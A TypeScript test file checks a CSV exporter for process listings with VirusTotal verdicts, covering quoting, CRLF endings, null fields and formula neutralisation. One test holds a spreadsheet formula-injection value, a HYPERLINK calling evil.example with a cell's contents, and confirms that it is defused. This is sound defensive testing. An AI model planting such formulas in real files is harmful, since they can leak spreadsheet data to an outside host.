import { describe, expect, it } from 'vitest';
import { VERDICT_LABELS, vtGuiLink } from '@/domain/verdict';
import { buildRunCsv } from './csv';
import { HOSTILE, makeRunExport, SHA } from '@/tests/export-fixture';
import type { RunExport } from './types';

/** Minimal RFC 4180 reader, independent of the writer, to check round trips. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i += 1;
      } else {
        field += ch;
        i += 1;
      }
    } else if (ch === '"' && field === '') {
      quoted = true;
      i += 1;
    } else if (ch === ',') {
      record.push(field);
      field = '';
      i += 1;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else {
      if (ch === '\r' || ch === '\n' || ch === '"') throw new Error(`bare ${JSON.stringify(ch)} at ${i}`);
      field += ch;
      i += 1;
    }
  }
  if (field !== '' || record.length > 0) throw new Error('last record not CRLF-terminated');
  return records;
}

function onlyProcess(overrides: Partial<RunExport['processes'][number]>): RunExport {
  const data = makeRunExport();
  const [first] = data.processes;
  if (!first) throw new Error('fixture has no processes');
  data.processes = [{ ...first, ...overrides }];
  return data;
}

const HEADER =
  'Process,PID,User,Memory %,Executable,MD5,SHA-1,SHA-256,Exe status,PPID,CPU %,Exe error,' +
  'VTScore,Verdict,VT link,Effective user,Package,Integrity,Heuristics\r\n';

/** The VirusTotal cells of the fixture's first process (clean, 0/72). */
const CLEAN_VT = `0,${VERDICT_LABELS['not-malicious']},${vtGuiLink(SHA.empty)}`;

describe('buildRunCsv', () => {
  it('writes the header and a known row exactly', () => {
    const csv = buildRunCsv(onlyProcess({}));
    expect(csv).toBe(
      HEADER +
        'postgres,1234,postgres,12.35,/usr/lib/postgresql/16/bin/postgres,' +
        'd41d8cd98f00b204e9800998ecf8427e,da39a3ee5e6b4b0d3255bfef95601890afd80709,' +
        `e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855,ok,1,3.14,,${CLEAN_VT},postgres,postgresql-16,matches,\r\n`,
    );
  });

  it('quotes fields with quotes, commas and newlines, doubling quotes', () => {
    const csv = buildRunCsv(
      onlyProcess({ name: 'a "b", c', exe: '/x\ny', exeError: 'line1\r\nline2', user: 'semi;colon' }),
    );
    expect(csv).toBe(
      HEADER +
        '"a ""b"", c",1234,"semi;colon",12.35,"/x\ny",' +
        'd41d8cd98f00b204e9800998ecf8427e,da39a3ee5e6b4b0d3255bfef95601890afd80709,' +
        'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855,ok,1,3.14,"line1\r\nline2",' +
        `${CLEAN_VT},postgres,postgresql-16,matches,\r\n`,
    );
    const row = parseCsv(csv)[1];
    expect(row?.[0]).toBe('a "b", c');
    expect(row?.[4]).toBe('/x\ny');
    expect(row?.[11]).toBe('line1\r\nline2');
  });

  it('neutralises formulas, quoted or not', () => {
    const csv = buildRunCsv(onlyProcess({ name: HOSTILE.formula, user: '-evil' }));
    const row = parseCsv(csv)[1];
    expect(row?.[0]).toBe(`'${HOSTILE.formula}`);
    expect(row?.[2]).toBe("'-evil");
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")"`);
  });

  it('round-trips the whole fixture with empty fields for null', () => {
    const data = makeRunExport();
    const records = parseCsv(buildRunCsv(data));
    expect(records).toHaveLength(data.processes.length + 1);
    expect(records.every((r) => r.length === 19)).toBe(true);
    const kernel = records.find((r) => r[1] === '2');
    expect(kernel?.slice(4, 9)).toEqual(['', '', '', '', 'kernel-thread']);
    expect(records.find((r) => r[1] === '2003')?.[0]).toBe(HOSTILE.rtlOverride);
    expect(records.find((r) => r[1] === '2005')?.[0]).toBe(HOSTILE.long);
    expect(records.find((r) => r[1] === '2007')?.[0]).toBe('bad\uFFFD\uFFFDname\uFFFD');
    expect(records.find((r) => r[1] === '2001')?.slice(12, 15)).toEqual([
      '7',
      VERDICT_LABELS.malicious,
      vtGuiLink(SHA.malicious),
    ]);
    expect(records.find((r) => r[1] === '2003')?.slice(12)).toEqual([
      '',
      VERDICT_LABELS['not-found'],
      '',
      'root',
      '',
      'not packaged',
      'runs from /tmp; world-writable',
    ]);
  });

  it('leaves the VirusTotal fields empty for a process without VirusTotal data', () => {
    const csv = buildRunCsv(onlyProcess({ vt: undefined }));
    expect(csv.endsWith(',ok,1,3.14,,,,,postgres,postgresql-16,matches,\r\n')).toBe(true);
  });

  it('writes an empty field, not NaN, for a non-finite number', () => {
    const row = parseCsv(buildRunCsv(onlyProcess({ memoryPercent: Number.NaN })))[1];
    expect(row?.[3]).toBe('');
  });

  it('has no BOM and uses CRLF only', () => {
    const csv = buildRunCsv(makeRunExport());
    expect(csv.charCodeAt(0)).not.toBe(0xfeff);
    expect(csv.startsWith(HEADER)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('writes only the header for an empty run', () => {
    const data = makeRunExport();
    data.processes = [];
    expect(buildRunCsv(data)).toBe(HEADER);
  });
});
